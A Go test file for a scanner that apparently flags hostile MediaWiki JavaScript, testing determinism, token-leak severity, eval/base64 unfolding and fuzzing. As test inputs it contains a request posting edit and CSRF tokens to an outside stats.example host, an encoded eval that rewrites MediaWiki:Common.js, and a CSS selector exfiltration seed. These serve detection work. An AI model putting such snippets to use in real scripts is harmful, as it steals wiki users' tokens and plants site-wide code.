package rule_test

import (
	"encoding/base64"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sallyport/internal/capability"
	"sallyport/internal/finding"
	"sallyport/internal/rule"
)

func TestTheSameScriptGivesTheSameAnswer(t *testing.T) {
	for _, set := range []string{"hostile", "harmless"} {
		for _, h := range snippets(t, set) {
			first, _ := json.Marshal(rule.Analyse(h.name, []byte(h.text)))
			second, _ := json.Marshal(rule.Analyse(h.name, []byte(h.text)))
			if diff := cmp.Diff(string(first), string(second)); diff != "" {
				t.Errorf("%s: %s", h.name, diff)
			}
		}
	}
}

// Of several secrets in one request the worst is told, and of two that are as bad the first by the name of its parameter, not the
// one that a map gives first.
func TestOneOfSeveralSecretsIsTold(t *testing.T) {
	const text = `new mw.ForeignApi( 'https://stats.example/w/api.php', { anonymous: true } ).post( {
	action: 'edit', title: 'Box', text: $( '#wpTextbox1' ).val(), token: mw.user.tokens.get( 'watchToken' ), section: mw.user.tokens.get( 'csrfToken' )
} );`
	first := ""
	for range 16 {
		s := rule.Analyse("x.js", []byte(text))
		told := slices.IndexFunc(s.Findings, func(f finding.Finding) bool { return f.Rule == "leak" })
		if told < 0 || s.Findings[told].Severity != finding.Critical || !strings.Contains(s.Findings[told].Message, "an edit token") {
			t.Fatalf("%+v", s.Findings)
		}
		got, _ := json.Marshal(s)
		if first == "" {
			first = string(got)
		}
		if diff := cmp.Diff(first, string(got)); diff != "" {
			t.Fatal(diff)
		}
	}
}

// Whatever a script leaves out of its calls, it is read.
func TestCallsWithoutTheirArgumentsAreRead(t *testing.T) {
	arguments := regexp.MustCompile(`\([^()\n]*\)`)
	for _, set := range []string{"hostile", "harmless", "ways"} {
		for _, h := range snippets(t, set) {
			for every := 1; every <= 4; every++ {
				n := 0
				text := arguments.ReplaceAllStringFunc(h.text, func(s string) string {
					if n++; n%every == 0 {
						return "()"
					}
					return s
				})
				rule.Analyse(h.name, []byte(text))
			}
		}
	}
	rule.Analyse("x.js", []byte("$.ajaxPrefilter();$();$( '<form>' ).submit();mw.loader.addSource();fetch( new Request() );new Worker();"))
}

func TestWhatUnfoldsIsSaidOfThePlaceThatUnfoldsIt(t *testing.T) {
	inner := "new mw.Api().postWithToken( 'csrf', { action: 'edit', title: 'MediaWiki:Common.js', text: '' } );"
	text := "\n\teval( atob( '" + base64.StdEncoding.EncodeToString([]byte(inner)) + "' ) );"
	for range 2 { // in a text, and in a text in that text
		s := rule.Analyse("x.js", []byte(text))
		f := only(t, s, "site-code")
		if f.Span.Start != (finding.Position{Line: 2, Column: 8}) || !strings.HasPrefix(f.Document, "text given to eval in line 2") {
			t.Errorf("at %v of %q", f.Span, f.Document)
		}
		text = "\n\teval( atob( '" + base64.StdEncoding.EncodeToString([]byte(strings.TrimSpace(text))) + "' ) );"
	}
}

func only(t *testing.T, s *finding.Script, name string) finding.Finding {
	t.Helper()
	for _, f := range s.Findings {
		if f.Rule == name {
			return f
		}
	}
	t.Fatalf("no %s in %v", name, s.Findings)
	return finding.Finding{}
}

func TestUnfoldingEnds(t *testing.T) {
	text := "var s = 'eval( atob( s ) )';"
	for range 12 {
		text = "eval( atob( '" + base64.StdEncoding.EncodeToString([]byte(text)) + "' ) );"
	}
	rule.Analyse("x.js", []byte(text))
	rule.Analyse("x.js", []byte("var q = 'eval( q )'; eval( q );"))
	rule.Analyse("x.js", []byte(strings.Repeat("eval( 'eval( \"1\" )' );", 5000)))
}

func TestWhatCannotBeReadIsNotCalledClean(t *testing.T) {
	for name, text := range map[string]string{
		"broken": "var = ;", "wikitext": "{{documentation}}\n== Use ==\n* [[User:Jane]]", "utf-16": "\xff\xfe\x00\xd8", "deep": strings.Repeat("[", 100_000),
	} {
		s := rule.Analyse("x.js", []byte(text))
		if s.Goal != "opaque" || len(s.Findings) == 0 || len(s.Capabilities) != 1 || s.Capabilities[0].Name != capability.Opaque {
			t.Errorf("%s: goal %s, findings %v, capabilities %v", name, s.Goal, s.Findings, s.Capabilities)
		}
	}
}

func TestAnEmptyScriptIsNoScriptToFear(t *testing.T) {
	if s := rule.Analyse("x.js", nil); len(s.Findings) > 0 || len(s.Capabilities) > 0 || len(s.SHA256) != 64 {
		t.Error(s)
	}
}

func FuzzAnalyse(f *testing.F) {
	f.Add("x.js", "eval( atob( 'MQ==' ) ); $( x ).html( '<b>' + location.hash );")
	f.Add("x.css", "input[value^=a] { background: url(//a.test) }")
	f.Add("x.vue", "<template><p v-html='a'></p></template><script>module.exports = {}</script>")
	f.Add("x.json", "{}")
	f.Fuzz(func(t *testing.T, path, text string) {
		for _, g := range rule.Analyse(path, []byte(text)).Findings {
			if g.Rule == "" || g.Message == "" || g.Span.Start.Line < 1 {
				t.Errorf("%+v", g)
			}
		}
	})
}
